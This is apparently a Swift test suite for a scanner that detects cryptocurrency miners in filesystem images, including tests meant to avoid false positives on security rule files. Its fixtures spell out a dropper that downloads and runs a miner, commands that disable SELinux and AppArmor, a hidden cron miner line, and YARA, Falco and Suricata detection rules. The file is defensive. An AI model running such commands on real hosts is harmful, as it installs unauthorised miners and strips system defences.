import Foundation
import MinewatchCore
import MinewatchScan
import MinewatchSignatures
import Testing
import TestSupport

@Suite struct MinerBinaryTests {
    static let families: [(String, [String])] = [
        ("xmrig", Samples.xmrigStrings), ("packetcrypt", Samples.packetcryptStrings), ("cpuminer", Samples.cpuminerStrings),
        ("xmr-stak", Samples.xmrstakStrings), ("ccminer", Samples.ccminerStrings), ("cgminer", Samples.cgminerStrings),
        ("ethminer", Samples.ethminerStrings),
    ]

    @Test(arguments: families.map(\.0))
    func familyDetectedUnderInnocentName(family: String) throws {
        let strings = Self.families.first { $0.0 == family }?.1 ?? []
        let r = try scanFolder([("/usr/sbin/nginx-helper", Samples.elf(strings, seed: 11))])
        let f = r.findings.first { $0.category == "miner-binary" }
        #expect(f?.family == family)
        #expect(f?.severity == .critical)
        #expect(f?.path == "/usr/sbin/nginx-helper")
        // Evidence carries each matched string with its offset in the file.
        #expect((f?.evidence.filter { $0.kind == .signature }.count ?? 0) >= 2)
        #expect(f?.evidence.allSatisfy { $0.offset != nil } == true)
    }

    @Test(arguments: families.map(\.0))
    func oneStrayStringDoesNotConvict(family: String) throws {
        let strings = Self.families.first { $0.0 == family }?.1 ?? []
        for s in strings {
            let r = try scanFolder([("/usr/bin/tool", Samples.elf([s], seed: 3))])
            #expect(!r.findings.contains { $0.category == "miner-binary" }, "\(family): '\(s)' alone convicted")
        }
    }

    @Test func stratumClientOfUnknownFamily() throws {
        let r = try scanFolder([("/opt/app/worker", Samples.elf(["stratum+tcp://", "mining.subscribe", "mining.submit", "mining.notify"]))])
        #expect(r.finding("MW-BIN-STRATUM-CLIENT")?.severity == .high)
        #expect(r.finding("MW-BIN-STRATUM-CLIENT")?.family == nil)
    }

    @Test func embeddedWalletIsExtracted() throws {
        let r = try scanFolder([("/bin/svc", Samples.elf(Samples.xmrigStrings + [xmrWallet]))])
        let f = r.finding("MW-BIN-XMRIG")
        #expect(f?.evidence.contains { $0.kind == .wallet && $0.value == xmrWallet && $0.name == "XMR" } == true)
    }

    @Test func upxPackedAloneIsLowAndRaisedWithOtherEvidence() throws {
        let alone = try scanFolder([("/usr/bin/app", Samples.upxPacked())])
        #expect(alone.finding("MW-PACKED-UPX")?.severity == .low)
        let config = Array("{\"pools\":[{\"url\":\"stratum+tcp://pool.example:3333\",\"user\":\"\(xmrWallet)\"}],\"donate-level\":0,\"cpu\":{}}".utf8)
        let with = try scanFolder([("/usr/bin/app", Samples.upxPacked()), ("/etc/app/config.json", config)])
        let f = with.finding("MW-PACKED-UPX")
        #expect(f?.severity == .high)
        #expect(f?.note?.contains("MW-CORR-PACKED-MINER") == true)
        let named = try scanFolder([("/usr/bin/xmrig", Samples.upxPacked())])
        #expect(named.finding("MW-PACKED-UPX")?.severity == .high)
    }

    @Test func realUPXPackedBinary() throws {
        // Debian 12 ships no upx package: scripts/install-deps fetches Debian 13's (UPXTools).
        try UPXTools.require()
        let dir = try TempDir("upx")
        defer { dir.cleanup() }
        let src = try Data(contentsOf: URL(fileURLWithPath: "/bin/busybox"))
        let p = try dir.file("root/usr/local/bin/helper", Array(src), mode: 0o755)
        let r = try run([UPXTools.upx, "-q", "-1", p])
        #expect(r.status == 0, "\(r.err)")
        let rep = ImageScanner(rules: compiledRules).scan(path: dir.path + "/root")[0]
        #expect(rep.finding("MW-PACKED-UPX", at: "/usr/local/bin/helper") != nil)
    }
}

@Suite struct TextIndicatorTests {
    @Test func xmrigConfigWithPoolAndWallet() throws {
        let cfg = """
        {"autosave": true, "cpu": {"enabled": true}, "randomx": {"1gb-pages": true}, "donate-level": 1,
         "pools": [{"url": "stratum+ssl://gulf.moneroocean.stream:20128", "user": "\(xmrWallet)", "pass": "x", "tls": true}]}
        """
        let r = try scanFolder([("/root/.cache/c.json", Array(cfg.utf8))])
        #expect(r.finding("MW-CFG-XMRIG")?.severity == .high)
        let pool = r.finding("MW-POOL-URL")
        #expect(pool?.evidence.contains { $0.kind == .pool && $0.value == "stratum+ssl://gulf.moneroocean.stream:20128" } == true)
        #expect(pool?.severity == .high)  // raised: wallet in the same file
        #expect(r.finding("MW-WALLET-XMR")?.evidence.contains { $0.value == xmrWallet } == true)
    }

    @Test func packetcryptConfig() throws {
        let cfg = "{\"payment_addr\": \"\(pktWallet)\", \"pools\": [\"http://pool.pkt.world\", \"http://pool.pktpool.io\"], \"threads\": 1}"
        let r = try scanFolder([("/srv/ann.json", Array(cfg.utf8))])
        #expect(r.finding("MW-CFG-PACKETCRYPT")?.family == "packetcrypt")
        #expect(r.finding("MW-WALLET-PKT")?.evidence.contains { $0.value == pktWallet } == true)
        #expect(r.finding("MW-POOL-DOMAIN")?.evidence.contains { $0.value.hasPrefix("pool.pkt.world") } == true)
    }

    @Test func cpuminerConfig() throws {
        let cfg = "{\"url\": \"stratum+tcp://x.example:3333\", \"user\": \"w\", \"pass\": \"x\", \"algo\": \"scrypt\"}"
        #expect(try scanFolder([("/etc/m.json", Array(cfg.utf8))]).finding("MW-CFG-CPUMINER") != nil)
    }

    @Test func packetcryptCommandLineInScriptAndUnit() throws {
        let script = "#!/bin/sh\nwhile true; do ./sugoi ann -p \(pktWallet) http://pool.pkt.world http://pool.pktpool.io | grep goodrate; done\n"
        let r = try scanFolder([("/usr/local/bin/start.sh", Array(script.utf8))])
        let f = r.finding("MW-CMD-PACKETCRYPT")
        #expect(f?.family == "packetcrypt")
        #expect(f?.severity == .high)
        #expect(f?.evidence.contains { $0.kind == .wallet && $0.value == pktWallet } == true)
        let unit = "[Service]\nExecStart=/opt/packetcrypt ann -p \(pktWallet) http://pool.pkteer.com\n"
        #expect(try scanFolder([("/etc/systemd/system/pkt.service", Array(unit.utf8))]).finding("MW-CMD-PACKETCRYPT") != nil)
    }

    @Test func xmrigOptionsInCron() throws {
        let cron = "*/5 * * * * root /tmp/.x/kworker -o 1.2.3.4:443 -u \(xmrWallet) --donate-level=1 -a rx/0 -B\n"
        let r = try scanFolder([("/etc/cron.d/sys", Array(cron.utf8))])
        #expect(r.finding("MW-CMD-XMRIG")?.severity == .high)  // raised by the wallet beside it
    }

    @Test func droppers() throws {
        let fetch = "#!/bin/bash\ncurl -s http://198.18.1.9/x -o /tmp/xmrig && chmod +x /tmp/xmrig && nohup /tmp/xmrig &\n"
        #expect(try scanFolder([("/tmp/i.sh", Array(fetch.utf8))]).finding("MW-DROPPER-FETCH")?.severity == .high)
        let huge = "sysctl -w vm.nr_hugepages=1280\n./m --wallet $W\n"
        #expect(try scanFolder([("/root/h.sh", Array(huge.utf8))]).finding("MW-DROPPER-HUGEPAGES") != nil)
        let kill = "pkill -f kdevtmpfsi\npkill -f kinsing\nkillall xmrig\n"
        #expect(try scanFolder([("/root/k.sh", Array(kill.utf8))]).finding("MW-DROPPER-KILL-RIVALS")?.severity == .medium)
        let off = "setenforce 0\nsystemctl stop apparmor\n/usr/bin/minerd -o stratum+tcp://p:3333\n"
        #expect(try scanFolder([("/root/o.sh", Array(off.utf8))]).finding("MW-DROPPER-DEFENCE-OFF") != nil)
        // A benign installer that downloads and runs something is not a dropper.
        let benign = "#!/bin/sh\ncurl -fsSL https://deb.nodesource.com/setup_20.x | bash -\napt-get install -y nodejs\n"
        #expect(try scanFolder([("/tmp/setup.sh", Array(benign.utf8))]).findings.isEmpty)
    }

    @Test func walletsAloneAndBitcoinIsLow() throws {
        let r = try scanFolder([("/app/notes.txt", Array("donate: \(xmrWallet)\nbtc: 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa\n".utf8))])
        #expect(r.finding("MW-WALLET-XMR")?.severity == .medium)
        #expect(r.finding("MW-WALLET-BTC")?.severity == .low)
        #expect(r.finding("MW-POOL-URL") == nil)
    }

    @Test func minerNameAloneIsLow() throws {
        let r = try scanFolder([("/usr/bin/xmrig", Array("#!/bin/sh\necho hello\n".utf8))])
        #expect(r.finding("MW-NAME-MINER")?.severity == .low)
    }
}

@Suite struct FalsePositiveTests {
    static let yaraRule = """
    rule PUA_XMRig_Monero_Miner {
       meta:
          description = "Detects XMRig"
       strings:
          $s1 = "'h' hashrate, 'p' pause, 'r' resume"
          $s2 = "--cpu-affinity"
          $s3 = "stratum+tcp://"
          $s4 = "donate.v2.xmrig.com"
          $s5 = "XMRig/%s libuv/%s%s"
       condition:
          uint16(0) == 0x457f and 2 of them
    }
    """
    static let falcoRule = """
    - list: miner_domains
      items: [pool.supportxmr.com, xmr-eu1.nanopool.org, pool.pkt.world]
    - rule: Detect outbound connections to common miner pool ports
      desc: Miners typically connect to mining pools
      condition: outbound and fd.sport in (miner_ports) and fd.sip.name in (miner_domains)
      output: Outbound connection to IP/Port flagged by cryptoioc.ch (command=%proc.cmdline)
      priority: CRITICAL
    - rule: Detect crypto miners using the Stratum protocol
      condition: spawned_process and (proc.cmdline contains "stratum+tcp" or proc.cmdline contains "--donate-level")
      output: Possible miner running (command=%proc.cmdline)
      priority: CRITICAL
    """
    static let suricataRule = """
    alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:"ET COINMINER JSON stratum login"; content:"|22|method|22 3a 22|login|22|"; content:"agent|22 3a 22|XMRig"; sid:2024792; rev:3;)
    alert dns $HOME_NET any -> any any (msg:"ET COINMINER PKT pool lookup"; dns.query; content:".pkt.world"; endswith; sid:2030001; rev:1;)
    """

    @Test func securityRuleFilesAreAtMostInfo() throws {
        let r = try scanFolder([
            ("/opt/yara/miners.yar", Array(Self.yaraRule.utf8)),
            ("/etc/falco/rules.d/miners.yaml", Array(Self.falcoRule.utf8)),
            ("/etc/suricata/rules/coinminer.rules", Array(Self.suricataRule.utf8)),
        ])
        #expect(!r.findings.isEmpty)  // the strings are seen ...
        #expect(r.findings.allSatisfy { $0.severity == .info }, "\(r.findings.map { ($0.ruleId, $0.path, $0.severity) })")
        #expect(r.findings.allSatisfy { $0.note?.hasPrefix("capped at info") == true })
    }

    @Test func minewatchOwnRulesAreAtMostInfo() throws {
        let dir = try #require(BundledRules.directory())
        let names = try FileManager.default.contentsOfDirectory(atPath: dir)
        var files: [(String, [UInt8])] = []
        for n in names { files.append(("/usr/share/minewatch/rules/\(n)", Array(try Data(contentsOf: URL(fileURLWithPath: dir + "/" + n))))) }
        let r = try scanFolder(files)
        #expect(r.maxSeverity == .info)
    }

    @Test func docsAndBlocklistsAreAtMostInfo() throws {
        let doc = "# Mining\nRun `xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u WALLET --donate-level 1`.\n"
        let hosts = ["nanopool.org", "supportxmr.com", "moneroocean.stream", "hashvault.pro", "c3pool.com", "minexmr.com", "f2pool.com"]
            .map { "0.0.0.0 pool.\($0)" }.joined(separator: "\n")
        let r = try scanFolder([("/usr/share/doc/app/README.md", Array(doc.utf8)), ("/etc/pihole/block.list", Array(hosts.utf8))])
        #expect(r.maxSeverity == .info, "\(r.findings.map { ($0.ruleId, $0.path, $0.severity) })")
    }

    @Test func suppressionNeverAppliesToExecutables() throws {
        // An attacker cannot hide a miner binary by adding YARA words or a doc-like name.
        let elf = Samples.elf(Samples.xmrigStrings + ["rule x {", "strings:", "condition:"])
        let r = try scanFolder([("/usr/share/doc/x/README.md", elf)])
        #expect(r.finding("MW-BIN-XMRIG")?.severity == .critical)
    }

    @Test func hostSystemFoldersAreClean() throws {
        // This Debian host (with Python and Node installed) as a benign root filesystem sample.
        var failures: [String] = []
        for dir in ["/usr/lib/python3", "/usr/lib/python3.11", "/usr/lib/node_modules", "/etc", "/usr/share/doc"] where FileManager.default.fileExists(atPath: dir) {
            let r = ImageScanner(rules: compiledRules).scan(path: dir)[0]
            failures += r.findings.filter { $0.severity > .info }.map { "\(dir)\($0.path): \($0.ruleId) \($0.severity)" }
        }
        #expect(failures.isEmpty, "\(failures)")
    }
}
